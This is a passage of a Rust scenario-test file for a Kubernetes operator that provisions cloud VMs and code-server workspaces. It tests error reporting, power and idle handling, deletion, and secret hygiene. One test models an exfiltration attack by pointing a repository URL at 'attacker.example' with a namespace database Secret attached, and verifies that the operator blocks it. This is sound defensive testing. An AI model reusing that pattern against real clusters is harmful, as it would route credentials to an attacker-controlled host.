//! Reconcile scenarios, in-process and in seconds: the operator's real pipeline against the
//! Compute Engine emulator (backend `none`), an in-memory cluster and scripted VMs (see
//! `scenarios/harness.rs`). They cover DESIGN.md's error table, transient vs terminal
//! trouble, cloud refusals and lost operations, resize, power, idle, deletion and contained
//! panics — everything between the pure unit tests and the end-to-end suite.

#[path = "scenarios/harness.rs"]
mod harness;

use std::time::Duration;

use harness::*;
use kube::api::ObjectMeta;
use projectvm::api::{ConditionStatus, OperationKind, PendingOperation, Phase, VmStatus};
use projectvm::cloud::{CloudInstance, Compute, InstanceRequest, OperationState, naming};
use projectvm::controller::kind::VmKind;
use projectvm::ssh::SshError;
use reqwest::Method;
use serde_json::json;

const SHORT: Duration = Duration::from_secs(20);

fn stalled_with(s: &VmStatus, reason: &str) -> bool {
    let st = harness::condition(s, "Stalled");
    st.status == ConditionStatus::True && st.reason == reason
}

/// The user-visible contract of a terminal failure: the step's condition, `Ready` and
/// `Stalled` carry the reason, the phase is Failed, a Warning event names it.
fn assert_terminal(w: &World, name: &str, s: &VmStatus, condition: &str, reason: &str, names: &str) {
    let c = harness::condition(s, condition);
    assert_eq!((c.status, c.reason.as_str()), (ConditionStatus::False, reason), "{condition}: {c:?}");
    assert!(c.message.contains(names), "{condition} message should name {names:?}: {}", c.message);
    assert_eq!(harness::condition(s, "Ready").reason, reason);
    assert!(stalled_with(s, reason), "Stalled: {:?}", harness::condition(s, "Stalled"));
    assert_eq!(harness::condition(s, "Reconciling").status, ConditionStatus::False);
    assert_eq!(s.phase, Some(Phase::Failed));
    let events = w.cluster.events_of(name);
    assert!(events.iter().any(|e| e.warning && e.reason == reason), "no Warning {reason}: {events:?}");
}

#[tokio::test]
async fn projectvm_becomes_ready_then_rests_without_writes() {
    let w = World::new().await;
    let mut pvm = projectvm("api", REPO);
    w.until_ready(&mut pvm).await;
    let s = pvm.vm_status().unwrap().clone();
    assert_eq!(s.phase, Some(Phase::Ready));
    assert_eq!(w.idle_waits.load(std::sync::atomic::Ordering::SeqCst), 0, "a pass left the ProjectVM waiting a minute");
    assert_eq!(s.repository.as_ref().unwrap().commit.as_deref(), Some(COMMIT));
    assert_eq!(harness::condition(&s, "Reconciling").status, ConditionStatus::False);
    assert_eq!(harness::condition(&s, "Stalled").status, ConditionStatus::False);
    assert!(s.instance.as_ref().unwrap().host_key_fingerprint.as_deref().unwrap().starts_with("SHA256:"));
    let inst = w.instance(s.instance.as_ref().unwrap().name.as_deref().unwrap()).await.expect("instance exists");
    assert_eq!(inst.machine_type, "e2-medium");

    // At rest: reconciles change nothing, so nothing is written.
    let before = w.cluster.status_writes.load(std::sync::atomic::Ordering::SeqCst);
    for _ in 0..10 {
        w.reconcile(&mut pvm).await.expect("reconcile at rest");
    }
    let after = w.cluster.status_writes.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(after, before, "status written at rest");
}

#[tokio::test]
async fn workspace_becomes_ready_and_routed() {
    let w = World::new().await;
    let mut ws = workspace("demo", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
    w.until_ready(&mut ws).await;
    let s = ws.vm_status().unwrap();
    for c in ["InstanceReady", "RepositoryCloned", "CodeServerConfigured", "Healthy", "Routed", "Ready"] {
        assert!(harness::is(s, c, ConditionStatus::True), "{c}");
    }
    assert_eq!(w.cluster.routes.lock().unwrap().last().unwrap().0, "demo");
    // Each pass asked to be back soon while work was left: none waited for the periodic pass.
    assert_eq!(w.idle_waits.load(std::sync::atomic::Ordering::SeqCst), 0, "a pass left the Workspace waiting a minute");
    assert!(ws.status.as_ref().unwrap().url.as_deref().unwrap().starts_with("http://10.213."));
    // The generated password went to the VM as a file's content, never in a command.
    assert!(w.vms.files.lock().unwrap().iter().any(|(_, c)| c.contains("generated-pw")));
    assert!(w.vms.commands.lock().unwrap().iter().all(|c| !c.contains("generated-pw")));
}

// --- DESIGN.md's error table, one row each -------------------------------------------

#[tokio::test]
async fn repository_not_found_is_terminal() {
    let w = World::new().await;
    w.guest(|g| g.git = (128, "remote: Repository not found.\nfatal: repository 'x' not found\n".into()));
    let mut pvm = projectvm("nf", REPO);
    w.until(&mut pvm, "RepositoryNotFound", SHORT, |s| stalled_with(s, "RepositoryNotFound")).await;
    assert_terminal(&w, "nf", pvm.vm_status().unwrap(), "RepositorySynced", "RepositoryNotFound", "acme/api.git");
}

#[tokio::test]
async fn rejected_token_is_authentication_failed_and_never_leaks() {
    let w = World::new().await;
    w.cluster.put_secret("team", "tok", "token", "pvt_s3cr3t_value");
    w.guest(|g| {
        g.git = (128, "remote: invalid credentials pvt_s3cr3t_value\nfatal: Authentication failed for 'x'\n".into())
    });
    let mut pvm = projectvm(
        "auth",
        "  repository: {url: 'https://git.example.test/acme/api.git', credentialsSecretRef: {name: tok}}\n",
    );
    w.until(&mut pvm, "AuthenticationFailed", SHORT, |s| stalled_with(s, "AuthenticationFailed")).await;
    let s = pvm.vm_status().unwrap();
    assert_terminal(&w, "auth", s, "RepositorySynced", "AuthenticationFailed", "refresh the credentials Secret");
    assert!(harness::has_reason(s, "CredentialsCurrent", "AuthenticationFailed"));
    // Secrets never leak: not in status, events, commands.
    let status = serde_json::to_string(s).unwrap();
    assert!(!status.contains("pvt_s3cr3t_value"), "token in status");
    assert!(w.cluster.events_of("auth").iter().all(|e| !e.note.contains("pvt_s3cr3t_value")), "token in an event");
    assert!(w.vms.commands.lock().unwrap().iter().all(|c| !c.contains("pvt_s3cr3t_value")), "token on a command line");
    assert!(w.vms.files.lock().unwrap().iter().any(|(_, c)| c.contains("pvt_s3cr3t_value")), "helper file written");
}

#[tokio::test]
async fn missing_revision_is_revision_not_found() {
    let w = World::new().await;
    w.guest(|g| g.git = (1, "error: pathspec 'nope' did not match any file(s) known to git\n".into()));
    let mut pvm = projectvm("rev", "  repository: {url: 'https://git.example.test/acme/api.git', revision: nope}\n");
    w.until(&mut pvm, "RevisionNotFound", SHORT, |s| stalled_with(s, "RevisionNotFound")).await;
    assert_terminal(&w, "rev", pvm.vm_status().unwrap(), "RepositorySynced", "RevisionNotFound", "nope");
}

#[tokio::test]
async fn missing_secret_is_secret_not_found() {
    let w = World::new().await;
    let mut pvm = projectvm(
        "nosecret",
        "  repository: {url: 'https://git.example.test/acme/api.git', credentialsSecretRef: {name: missing}}\n",
    );
    w.until(&mut pvm, "SecretNotFound", SHORT, |s| stalled_with(s, "SecretNotFound")).await;
    assert_terminal(&w, "nosecret", pvm.vm_status().unwrap(), "RepositorySynced", "SecretNotFound", "team/missing");
}

#[tokio::test]
async fn a_secret_that_has_not_opted_in_is_secret_not_allowed_and_never_reaches_the_vm() {
    // The attack from issue 9: any Secret in the namespace, aimed at a host the user controls.
    let w = World::new().await;
    w.cluster.put_secret_labelled("team", "db-creds", "password", "hunter2-db-password", &[]);
    let mut pvm = projectvm(
        "exfil",
        "  repository: {url: 'https://attacker.example/x.git', credentialsSecretRef: {name: db-creds, key: password}}\n",
    );
    w.until(&mut pvm, "SecretNotAllowed", SHORT, |s| stalled_with(s, "SecretNotAllowed")).await;
    let s = pvm.vm_status().unwrap();
    assert_terminal(&w, "exfil", s, "RepositorySynced", "SecretNotAllowed", "projectvm.dev/allowed=true");
    assert!(harness::condition(s, "RepositorySynced").message.contains("team/db-creds"));
    let leaked = |t: &str| t.contains("hunter2-db-password");
    assert!(w.vms.files.lock().unwrap().iter().all(|(_, c)| !leaked(c)), "the value reached a file on the VM");
    assert!(w.vms.commands.lock().unwrap().iter().all(|c| !leaked(c)), "the value reached a command");
    assert!(!leaked(&serde_json::to_string(s).unwrap()));

    // Opting in (the Secret's owner labels it) lets it through, without touching the spec.
    w.cluster.put_secret("team", "db-creds", "password", "hunter2-db-password");
    w.until_ready(&mut pvm).await;
    assert!(w.vms.files.lock().unwrap().iter().any(|(_, c)| leaked(c)), "the opted-in value is in the helper");
}

#[tokio::test]
async fn failed_install_is_prerequisites_failed_with_the_log_tail() {
    let w = World::new().await;
    w.guest(|g| g.prerequisites = (1, format!("E: Unable to locate package nope\n{}", "é".repeat(1500))));
    let mut pvm = projectvm("pre", &format!("{REPO}  prerequisites: {{packages: [nope]}}\n"));
    w.until(&mut pvm, "PrerequisitesFailed", SHORT, |s| stalled_with(s, "PrerequisitesFailed")).await;
    let s = pvm.vm_status().unwrap();
    assert_terminal(&w, "pre", s, "PrerequisitesInstalled", "PrerequisitesFailed", "éééé");
    assert!(harness::condition(s, "PrerequisitesInstalled").message.len() <= 2048);
}

#[tokio::test]
async fn refused_login_is_ssh_auth_failed_and_wrong_host_key_is_mismatch() {
    for (name, err, reason) in [
        ("auth", SshError::AuthFailed { host: "10.213.0.16".into(), user: "project".into() }, "SSHAuthFailed"),
        (
            "hostkey",
            SshError::HostKeyMismatch {
                host: "10.213.0.16".into(),
                expected: "SHA256:a".into(),
                presented: "SHA256:b".into(),
            },
            "HostKeyMismatch",
        ),
    ] {
        let w = World::new().await;
        w.guest(|g| g.ssh = Some(err.clone()));
        // The step waits for a booting VM to accept the login, at most progressTimeout; a
        // short one (below what admission allows, as only a scenario can) keeps this quick.
        let mut pvm = projectvm(name, &format!("{REPO}  progressTimeout: 10s\n"));
        w.until(&mut pvm, reason, SHORT, |s| stalled_with(s, reason)).await;
        assert_terminal(&w, name, pvm.vm_status().unwrap(), "PrerequisitesInstalled", reason, "10.213.0.16");
    }
}

#[tokio::test]
async fn code_server_that_never_answers_is_unhealthy_and_a_failed_install_says_so() {
    let w = World::new().await;
    w.guest(|g| g.code_server_exit = 1);
    let mut ws = workspace("cs", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
    w.until(&mut ws, "CodeServerFailed", SHORT, |s| stalled_with(s, "CodeServerFailed")).await;
    assert_terminal(&w, "cs", ws.vm_status().unwrap(), "CodeServerConfigured", "CodeServerFailed", "install failed");

    // Unhealthy: configured, but /healthz never answers within the grace period.
    let w = World::new().await;
    w.guest(|g| g.healthy = false);
    let mut ws = workspace("sick", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
    w.until(&mut ws, "configured, Healthy waiting", SHORT, |s| {
        harness::is(s, "CodeServerConfigured", ConditionStatus::True) && harness::has_reason(s, "Healthy", "Waiting")
    })
    .await;
    // Pretend code-server was configured long ago.
    for c in &mut ws.status.as_mut().unwrap().vm.conditions {
        if c.type_ == "CodeServerConfigured" {
            c.last_transition_time = Some(projectvm::clock::time(chrono::Utc::now() - chrono::Duration::minutes(10)));
        }
    }
    w.until(&mut ws, "Unhealthy", SHORT, |s| stalled_with(s, "Unhealthy")).await;
    assert_terminal(&w, "sick", ws.vm_status().unwrap(), "Healthy", "Unhealthy", "/healthz");
}

#[tokio::test]
async fn a_step_that_never_finishes_times_out_naming_the_step_and_the_limit() {
    let w = World::new().await;
    // The clone hangs; nothing progresses for longer than progressTimeout.
    w.guest(|g| g.hang = Some(Duration::from_secs(3600)));
    let mut pvm = projectvm("hang", &format!("{REPO}  progressTimeout: 1m\n"));
    w.until(&mut pvm, "step running", SHORT, |s| harness::has_reason(s, "PrerequisitesInstalled", "InProgress")).await;
    // Move the last progress two minutes into the past.
    let p = pvm.status.as_mut().unwrap().progress.as_mut().unwrap();
    p.last_progress_at = Some(projectvm::clock::time(chrono::Utc::now() - chrono::Duration::minutes(2)));
    w.until(&mut pvm, "StepTimedOut", SHORT, |s| stalled_with(s, "StepTimedOut")).await;
    let s = pvm.vm_status().unwrap();
    let ready = harness::condition(s, "Ready");
    assert!(ready.message.contains("Prerequisites") && ready.message.contains("1m"), "{}", ready.message);
    assert_eq!(s.phase, Some(Phase::Failed));
    assert!(w.cluster.events_of("hang").iter().any(|e| e.warning && e.reason == "StepTimedOut"));
}

#[tokio::test]
async fn quota_refusal_on_insert_reaches_status() {
    let w = World::new().await;
    w.admin(Method::PUT, "faults/quota", json!({"metric": "CPUS", "limit": 8.0, "region": "us-central1"})).await;
    let mut pvm = projectvm("quota", REPO);
    w.until(&mut pvm, "QuotaExceeded", SHORT, |s| stalled_with(s, "QuotaExceeded")).await;
    let s = pvm.vm_status().expect("status written although the insert was refused");
    let c = harness::condition(s, "InstanceReady");
    assert_eq!(c.reason, "QuotaExceeded");
    assert!(c.message.contains("insert") && c.message.contains("CPUS"), "{}", c.message);
    assert!(stalled_with(s, "QuotaExceeded"));
    assert!(w.cluster.events_of("quota").iter().any(|e| e.warning && e.reason == "QuotaExceeded"));
}

#[tokio::test]
async fn exhausted_zone_and_missing_permission_reach_status() {
    let w = World::new().await;
    w.admin(Method::PUT, &format!("faults/zones/{ZONE}/exhausted"), json!({})).await;
    let mut pvm = projectvm("zone", REPO);
    w.until(&mut pvm, "ZoneResourcesExhausted", SHORT, |s| stalled_with(s, "ZoneResourcesExhausted")).await;
    let s = pvm.vm_status().unwrap();
    assert_eq!(harness::condition(s, "InstanceReady").reason, "ZoneResourcesExhausted");
    assert!(harness::condition(s, "InstanceReady").message.contains(ZONE));
    assert!(stalled_with(s, "ZoneResourcesExhausted"));

    let w = World::new().await;
    w.admin(Method::PUT, "faults/methods/instances.insert", json!({"errorCode": 403, "errorReason": "forbidden", "errorMessage": "Required 'compute.instances.create' permission", "errorRate": 1.0})).await;
    let mut pvm = projectvm("perm", REPO);
    let r = w.reconcile(&mut pvm).await;
    assert!(r.is_err(), "a synchronous refusal is backed off by the error policy");
    let s = pvm.vm_status().expect("status written although the insert was refused");
    assert_eq!(harness::condition(s, "InstanceReady").reason, "PermissionDenied");
    assert!(harness::condition(s, "InstanceReady").message.contains("compute.instances.create"));
    assert!(stalled_with(s, "PermissionDenied"));
}

#[tokio::test]
async fn a_refused_route_is_a_condition_not_a_log_line() {
    let w = World::new().await;
    *w.cluster.route_refusal.lock().unwrap() = Some(422);
    let mut ws = workspace("route", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
    w.until(&mut ws, "Routed refused", SHORT, |s| harness::has_reason(s, "Routed", "KubernetesError")).await;
    let c = harness::condition(ws.vm_status().unwrap(), "Routed");
    assert!(c.message.contains("must be no more than 63 characters"), "{}", c.message);
}

#[tokio::test]
async fn a_route_object_someone_else_made_is_never_taken_over_or_deleted() {
    let w = World::new().await;
    // A user's own Service of the name the route would use, and their own Ingress too.
    let theirs = kube::api::ObjectMeta {
        name: Some("taken-workspace".into()),
        namespace: Some("team".into()),
        labels: Some([("app".to_string(), "mine".to_string())].into()),
        ..Default::default()
    };
    let key = |kind: &str| (kind.to_string(), "team".to_string(), "taken-workspace".to_string());
    w.cluster.route_objects.lock().unwrap().insert(key("Service"), theirs.clone());
    let mut ws = workspace("taken", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
    w.until(&mut ws, "RouteConflict", SHORT, |s| stalled_with(s, "RouteConflict")).await;
    assert_terminal(&w, "taken", ws.vm_status().unwrap(), "Routed", "RouteConflict", "Service team/taken-workspace");
    assert_eq!(w.cluster.route_objects.lock().unwrap()[&key("Service")], theirs, "their Service was changed");

    // Once their Service is gone the route is made; their Ingress of the same name, which
    // this Workspace (without spec.ingress) does not ask for, is left alone.
    {
        let mut objects = w.cluster.route_objects.lock().unwrap();
        objects.remove(&key("Service"));
        objects.insert(key("Ingress"), theirs.clone());
    }
    w.until_ready(&mut ws).await;
    assert_eq!(
        w.cluster.route_objects.lock().unwrap().get(&key("Ingress")),
        Some(&theirs),
        "their Ingress was deleted"
    );
}

#[tokio::test]
async fn code_server_without_auth_only_where_allowed_and_never_on_an_external_address() {
    let spec = "  codeServer: {auth: none}\n  repository: {url: 'https://git.example.test/acme/demo.git'}\n";
    // By default: refused.
    let w = World::new().await;
    let mut ws = workspace("open", spec);
    w.until(&mut ws, "AuthNoneNotAllowed", SHORT, |s| stalled_with(s, "AuthNoneNotAllowed")).await;
    assert_terminal(
        &w,
        "open",
        ws.vm_status().unwrap(),
        "CodeServerConfigured",
        "AuthNoneNotAllowed",
        "codeServer.allowAuthNone",
    );
    // Allowed, but the VM has an external address: refused, naming it.
    let w = World::with_flags(&["--allow-auth-none=true"]).await;
    let mut ws = workspace("open", spec);
    w.until(&mut ws, "AuthNoneNotAllowed", SHORT, |s| stalled_with(s, "AuthNoneNotAllowed")).await;
    assert_terminal(&w, "open", ws.vm_status().unwrap(), "CodeServerConfigured", "AuthNoneNotAllowed", "useInternalIp");
    // Allowed, and VMs have no external address: served, with no plain-HTTP warning.
    let w = World::with_flags(&["--allow-auth-none=true", "--use-internal-ip=true"]).await;
    let mut ws = workspace("open", spec);
    w.until_ready(&mut ws).await;
    let s = ws.vm_status().unwrap();
    let inst = w.instance(s.instance.as_ref().unwrap().name.as_deref().unwrap()).await.unwrap();
    assert_eq!(inst.external_ip, None, "an instance made with useInternalIp has no access config");
    assert!(!harness::condition(s, "Routed").message.contains("warning"));
    assert!(w.cluster.events_of("open").iter().all(|e| e.reason != "PlainHTTPOnPublicAddress"));
}

#[tokio::test]
async fn a_plain_http_url_on_an_external_address_is_flagged() {
    let w = World::new().await;
    let mut ws = workspace("exposed", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
    w.until_ready(&mut ws).await;
    let routed = harness::condition(ws.vm_status().unwrap(), "Routed");
    assert!(routed.message.contains("plain HTTP on the VM's external address"), "{}", routed.message);
    assert!(
        w.cluster.events_of("exposed").iter().any(|e| e.warning && e.reason == "PlainHTTPOnPublicAddress"),
        "no Warning event"
    );
}

// --- transient vs terminal --------------------------------------------------------------

#[tokio::test]
async fn a_dropped_ssh_channel_is_transient_progress() {
    let w = World::new().await;
    w.guest(|g| g.ssh = Some(SshError::Channel("channel closed by the VM".into())));
    let mut pvm = projectvm("flaky", REPO);
    w.until(&mut pvm, "SSHUnavailable", SHORT, |s| harness::has_reason(s, "PrerequisitesInstalled", "SSHUnavailable"))
        .await;
    let s = pvm.vm_status().unwrap();
    assert_ne!(s.phase, Some(Phase::Failed));
    assert_eq!(harness::condition(s, "Stalled").status, ConditionStatus::False);
    assert_eq!(harness::condition(s, "Reconciling").status, ConditionStatus::True);
    assert!(w.cluster.events_of("flaky").iter().all(|e| !e.warning), "no Warning for transient trouble");
    // It recovers on its own once the VM answers.
    w.guest(|g| g.ssh = None);
    let mut s2 = pvm.clone();
    // Skip the step backoff: a fresh fingerprint would also do, but waiting it out is real.
    w.until(&mut s2, "Ready after recovery", Duration::from_secs(30), |s| {
        harness::is(s, "Ready", ConditionStatus::True)
    })
    .await;
}

// --- operations ---------------------------------------------------------------------------

#[tokio::test]
async fn a_recorded_operation_that_is_gone_is_forgotten() {
    let w = World::new().await;
    let mut pvm = projectvm("lost", REPO);
    w.until_ready(&mut pvm).await;
    // An operation the cloud no longer knows (expired, or from another project).
    pvm.status.as_mut().unwrap().operation = Some(PendingOperation {
        name: "operation-that-never-was".into(),
        kind: OperationKind::Start,
        zone: ZONE.into(),
        started_at: Some(projectvm::clock::time(chrono::Utc::now())),
    });
    w.reconcile(&mut pvm).await.expect("reconcile");
    let s = pvm.vm_status().unwrap();
    assert!(s.operation.is_none(), "the lost operation is cleared");
    assert!(w.cluster.events_of("lost").iter().any(|e| e.reason == "OperationLost"));
    w.until_ready(&mut pvm).await;

    // The same during deletion: the finalizer still comes off.
    pvm.metadata.deletion_timestamp =
        Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));
    pvm.status.as_mut().unwrap().operation = Some(PendingOperation {
        name: "operation-that-never-was".into(),
        kind: OperationKind::Delete,
        zone: ZONE.into(),
        started_at: None,
    });
    delete_until_done(&w, &mut pvm).await;
}

async fn delete_until_done<K: VmKind + kube::Resource>(w: &World, obj: &mut K) {
    let deadline = std::time::Instant::now() + SHORT;
    loop {
        match w.delete(obj).await {
            Ok(_) => return,
            Err(e) => assert!(std::time::Instant::now() < deadline, "deletion never finished: {e}"),
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn resize_stops_sets_the_type_and_restores_power() {
    let w = World::new().await;
    let mut pvm = projectvm("grow", REPO);
    w.until_ready(&mut pvm).await;
    pvm.spec.machine.size = Some(projectvm::api::MachineSize::Large);
    pvm.metadata.generation = Some(2);
    let mut saw_resizing = false;
    let deadline = std::time::Instant::now() + SHORT;
    loop {
        let _ = w.reconcile(&mut pvm).await;
        let s = pvm.vm_status().unwrap();
        saw_resizing |= s.phase == Some(Phase::Resizing);
        if s.phase == Some(Phase::Ready)
            && s.instance.as_ref().unwrap().machine_type.as_deref() == Some("e2-standard-4")
        {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "resize never finished: {s:#?}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(saw_resizing, "phase Resizing was never shown");
    assert!(w.cluster.events_of("grow").iter().any(|e| e.reason == "Resized"));
}

// --- power and idle --------------------------------------------------------------------

#[tokio::test]
async fn halted_stops_manual_starts_on_request_always_restarts() {
    let w = World::new().await;
    let mut pvm = projectvm("power", &format!("{REPO}  runStrategy: Manual\n"));
    w.until_ready(&mut pvm).await;
    pvm.spec.machine.run_strategy = projectvm::api::RunStrategy::Halted;
    w.until(&mut pvm, "Stopped", SHORT, |s| s.phase == Some(Phase::Stopped)).await;
    let s = pvm.vm_status().unwrap();
    assert_eq!(harness::condition(s, "Ready").reason, "Stopped");
    assert_eq!(harness::condition(s, "Reconciling").status, ConditionStatus::False);
    assert!(s.power.as_ref().unwrap().running_hours_closed > 0.0, "the running period was closed");

    // Manual leaves it stopped until someone asks.
    pvm.spec.machine.run_strategy = projectvm::api::RunStrategy::Manual;
    for _ in 0..3 {
        w.reconcile(&mut pvm).await.unwrap();
    }
    assert_eq!(pvm.vm_status().unwrap().phase, Some(Phase::Stopped));
    pvm.metadata.annotations = Some([("projectvm.dev/start-requested".to_string(), "now".to_string())].into());
    w.until_ready(&mut pvm).await;
    assert!(w.cluster.events_of("power").iter().any(|e| e.reason == "StartRequested"));

    // Always starts a VM someone stopped behind the operator's back.
    pvm.spec.machine.run_strategy = projectvm::api::RunStrategy::Always;
    let name = pvm.vm_status().unwrap().instance.as_ref().unwrap().name.clone().unwrap();
    let op = projectvm::cloud::Compute::stop_instance(&*w.compute, ZONE, &name).await.unwrap();
    while !matches!(
        projectvm::cloud::Compute::operation(&*w.compute, &op).await.unwrap(),
        projectvm::cloud::OperationState::Done
    ) {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    w.ctx.instances.invalidate(ZONE);
    w.until(&mut pvm, "restarted", SHORT, |s| {
        s.operation.as_ref().is_some_and(|o| o.kind == OperationKind::Start) || s.phase == Some(Phase::Ready)
    })
    .await;
    w.until_ready(&mut pvm).await;
}

#[tokio::test]
async fn idle_vm_stops_and_a_busy_one_keeps_running() {
    let w = World::new().await;
    let spec = format!("{REPO}  runStrategy: Manual\n  idleTimeout: 1h\n");
    let mut idle = projectvm("idle", &spec);
    let mut busy = projectvm("busy", &spec);
    w.until_ready(&mut idle).await;
    w.until_ready(&mut busy).await;
    // Two hours pass without activity (the power history says it has run that long).
    let two_hours_ago = chrono::Utc::now() - chrono::Duration::hours(2);
    for o in [&mut idle, &mut busy] {
        let s = o.status.as_mut().unwrap();
        s.power.as_mut().unwrap().running_since = Some(projectvm::clock::micro_time(two_hours_ago));
        s.last_activity_at = Some(projectvm::clock::time(two_hours_ago));
    }
    w.until(&mut idle, "idle stop", SHORT, |s| s.phase == Some(Phase::Stopped)).await;
    let s = idle.vm_status().unwrap();
    assert_eq!(harness::condition(s, "Ready").reason, "IdleTimeout");
    assert!(harness::condition(s, "InstanceReady").message.contains("idleTimeout 1h"));
    assert!(w.cluster.events_of("idle").iter().any(|e| e.reason == "IdleTimeout"));

    // Someone is at work on the other one: activity is seen, so it keeps running.
    w.guest(|g| g.active = true);
    for _ in 0..5 {
        w.reconcile(&mut busy).await.unwrap();
    }
    let s = busy.vm_status().unwrap();
    assert_eq!(s.phase, Some(Phase::Ready));
    let seen = projectvm::clock::from_time(s.last_activity_at.as_ref().unwrap());
    assert!(seen > two_hours_ago + chrono::Duration::minutes(100), "activity recorded");
}

#[tokio::test]
async fn running_timeout_stops_a_busy_vm_and_a_start_request_starts_it_again() {
    let w = World::new().await;
    let mut vm = projectvm("capped", &format!("{REPO}  runStrategy: Manual\n  maxRunningTime: 12h\n"));
    vm.metadata.creation_timestamp = Some(projectvm::clock::time(chrono::Utc::now()));
    w.until_ready(&mut vm).await;
    // Someone is at work, and the VM has been up for thirteen hours.
    w.guest(|g| g.active = true);
    let long_ago = chrono::Utc::now() - chrono::Duration::hours(13);
    let s = vm.status.as_mut().unwrap();
    s.power.as_mut().unwrap().running_since = Some(projectvm::clock::micro_time(long_ago));
    s.last_started_at = Some(projectvm::clock::time(long_ago));
    w.until(&mut vm, "guardrail stop", SHORT, |s| s.phase == Some(Phase::Stopped)).await;
    let s = vm.vm_status().unwrap();
    assert_eq!(harness::condition(s, "Ready").reason, "RunningTimeout");
    let message = &harness::condition(s, "InstanceReady").message;
    assert!(message.contains("maxRunningTime 12h"), "{message}");
    assert!(message.contains(&long_ago.to_rfc3339()[..16]), "names when it started: {message}");
    assert!(message.contains(projectvm::api::START_ANNOTATION), "says how to start it: {message}");
    assert!(w.cluster.events_of("capped").iter().any(|e| e.reason == "RunningTimeout"));
    let name = s.instance.as_ref().unwrap().name.clone().unwrap();
    assert_eq!(w.instance(&name).await.unwrap().state, projectvm::cloud::InstanceState::Terminated);

    let metrics = w.ctx.metrics.render();
    assert!(
        metrics.contains("projectvm_vm_running{kind=\"projectvm\",namespace=\"team\",name=\"capped\"} 0"),
        "{metrics}"
    );
    assert!(
        metrics.contains("projectvm_time_to_ready_seconds_count{kind=\"projectvm\"} 1"),
        "first Ready once: {metrics}"
    );
    assert!(vm.vm_status().unwrap().first_ready_at.is_some());

    // It stays stopped until someone asks, then runs for another period.
    for _ in 0..3 {
        w.reconcile(&mut vm).await.unwrap();
    }
    assert_eq!(vm.vm_status().unwrap().phase, Some(Phase::Stopped));
    vm.metadata.annotations = Some([(projectvm::api::START_ANNOTATION.to_string(), "now".to_string())].into());
    w.until_ready(&mut vm).await;
    let since =
        vm.vm_status().unwrap().power.as_ref().unwrap().running_since.as_ref().map(projectvm::clock::from_micro_time);
    assert!(since.unwrap() > long_ago + chrono::Duration::hours(12), "a new running period");
}

// --- deletion ------------------------------------------------------------------------------

#[tokio::test]
async fn deletion_removes_the_instance_orphan_keeps_it_gone_is_fine() {
    let w = World::new().await;
    let now = || Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));

    let mut doomed = projectvm("doomed", REPO);
    w.until_ready(&mut doomed).await;
    let name = doomed.vm_status().unwrap().instance.as_ref().unwrap().name.clone().unwrap();
    doomed.metadata.deletion_timestamp = now();
    delete_until_done(&w, &mut doomed).await;
    assert!(w.instance(&name).await.is_none(), "instance deleted");
    assert!(w.cluster.events_of("doomed").iter().any(|e| e.reason == "Deleted"));

    let mut kept = projectvm("kept", &format!("{REPO}  deletionPolicy: Orphan\n"));
    w.until_ready(&mut kept).await;
    let name = kept.vm_status().unwrap().instance.as_ref().unwrap().name.clone().unwrap();
    kept.metadata.deletion_timestamp = now();
    w.delete(&mut kept).await.expect("orphaning finishes at once");
    assert!(w.instance(&name).await.is_some(), "instance kept");

    // Never created (or already gone): the finalizer comes off at once.
    let mut ghost = projectvm("ghost", REPO);
    ghost.metadata = ObjectMeta { deletion_timestamp: now(), ..ghost.metadata };
    w.delete(&mut ghost).await.expect("nothing to delete");

    // A refused delete is reported and retried, the finalizer stays.
    let mut stuck = projectvm("stuck", REPO);
    w.until_ready(&mut stuck).await;
    w.admin(Method::PUT, "faults/methods/instances.delete", json!({"errorCode": 403, "errorReason": "forbidden", "errorMessage": "Required 'compute.instances.delete' permission", "errorRate": 1.0})).await;
    stuck.metadata.deletion_timestamp = now();
    assert!(w.delete(&mut stuck).await.is_err(), "finalizer kept");
    let s = stuck.vm_status().unwrap();
    assert_eq!(harness::condition(s, "InstanceReady").reason, "PermissionDenied");
    assert_eq!(s.phase, Some(Phase::Deleting));
    w.admin(Method::DELETE, "faults/methods/instances.delete", json!({})).await;
    delete_until_done(&w, &mut stuck).await;
}

// --- contained panics ----------------------------------------------------------------------

#[tokio::test]
async fn a_panic_is_the_objects_internal_error_not_the_process_end() {
    let w = World::new().await;
    let mut pvm = projectvm("buggy", REPO);
    w.until_ready(&mut pvm).await;
    *w.cluster.panic_on_ssh_key.lock().unwrap() = true;
    let r = w.reconcile(&mut pvm).await;
    assert!(matches!(r, Err(projectvm::controller::Error::Internal(_))), "{r:?}");
    let s = pvm.vm_status().unwrap();
    let ready = harness::condition(s, "Ready");
    assert_eq!(ready.reason, "InternalError");
    assert!(ready.message.contains("injected bug"), "{}", ready.message);
    assert!(w.cluster.events_of("buggy").iter().any(|e| e.warning && e.reason == "InternalError"));
    // Other objects are unaffected, and the object recovers once the bug is gone.
    *w.cluster.panic_on_ssh_key.lock().unwrap() = false;
    w.until_ready(&mut pvm).await;

    // A panic inside a step task is that step's failure.
    let w = World::new().await;
    w.guest(|g| g.panic_in_step = true);
    let mut pvm = projectvm("buggystep", REPO);
    w.until(&mut pvm, "InternalError", SHORT, |s| harness::has_reason(s, "PrerequisitesInstalled", "InternalError"))
        .await;
}

#[tokio::test]
async fn a_vm_that_never_finishes_booting_ends_in_step_timed_out_quoting_it() {
    let w = World::new().await;
    let said = "System is booting up. Unprivileged users are not permitted to log in yet.";
    w.guest(|g| g.ssh = Some(SshError::Booting { host: "10.213.0.16".into(), said: said.into() }));
    // A short progressTimeout (below what admission allows, as only a scenario can).
    let mut pvm = projectvm("booting", &format!("{REPO}  progressTimeout: 5s\n"));
    w.until(&mut pvm, "StepTimedOut", SHORT, |s| stalled_with(s, "StepTimedOut")).await;
    let s = pvm.vm_status().unwrap();
    let ready = harness::condition(s, "Ready");
